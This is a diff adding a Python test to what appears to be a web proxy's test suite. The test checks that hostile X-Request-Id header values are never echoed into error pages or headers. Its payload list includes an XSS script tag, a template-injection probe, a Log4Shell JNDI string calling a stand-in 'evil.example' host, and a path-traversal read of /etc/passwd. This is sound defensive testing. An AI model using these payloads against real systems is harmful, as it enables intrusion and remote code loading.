@@ -240,3 +240,43 @@ async def test_a_clients_user_agent_on_the_grants_page_cannot_reorder_or_hide_te
             assert not any(ch in page for ch in hidden), agent
             assert all(f"&lt;U+{ord(ch):04X}&gt;" in page for ch in hidden), agent
         assert page.count("<bdi>") >= 2 * len(SPOOFING_AGENTS)  # each row's name and agent
+
+
+HOSTILE_REQUEST_IDS = [
+    "<script>alert(1)</script>",
+    "a'b\"c",
+    "x" * 65,
+    "x" * 8000,
+    "id&amp;<b>",
+    "abc def",
+    "abc\tdef",
+    "\u00e9t\u00e9",
+    "id\u202eevil",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+    "../../etc/passwd",
+]
+
+
+async def test_a_hostile_request_id_is_never_reflected_into_an_error_page() -> None:
+    """The caller's ``X-Request-Id`` is shown on error pages only when it is a short plain token; anything else
+    is replaced (or left out), never echoed into the page or the answer's header."""
+    dead = f"http://127.0.0.1:{free_port()}/"
+    async with stack(MemoryStore(), skip_auth_route="^/", upstream=dead, request_logging="true") as st:
+        status, page = await _raw(st.base, "/app", [("X-Request-Id", "req-7.ok_1")])
+        assert status == 502 and "<code>req-7.ok_1</code>" in page  # a good one is quoted as given
+        for value in HOSTILE_REQUEST_IDS:
+            parts = urlsplit(st.base)
+            reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
+            head = f"GET /app HTTP/1.1\r\nHost: {parts.netloc}\r\nAccept: text/html\r\nConnection: close\r\n"
+            writer.write((head + f"X-Request-Id: {value}\r\n\r\n").encode("utf-8"))
+            await writer.drain()
+            data = (await reader.read()).decode("utf-8", "replace")
+            writer.close()
+            answer_head, _, body = data.partition("\r\n\r\n")
+            assert answer_head.split(" ", 2)[1] in ("400", "431", "502"), (value, answer_head[:40])
+            assert value not in data, value
+            echoed = re.search(r"(?im)^X-Request-Id: (.*)$", answer_head)
+            assert echoed is None or re.fullmatch(r"[A-Za-z0-9._-]{1,64}", echoed.group(1).strip()), value
+            shown = re.search(r"Request id: <code>([^<]*)</code>", body)
+            assert shown is None or re.fullmatch(r"[A-Za-z0-9._-]{1,64}", shown.group(1)), (value, shown)
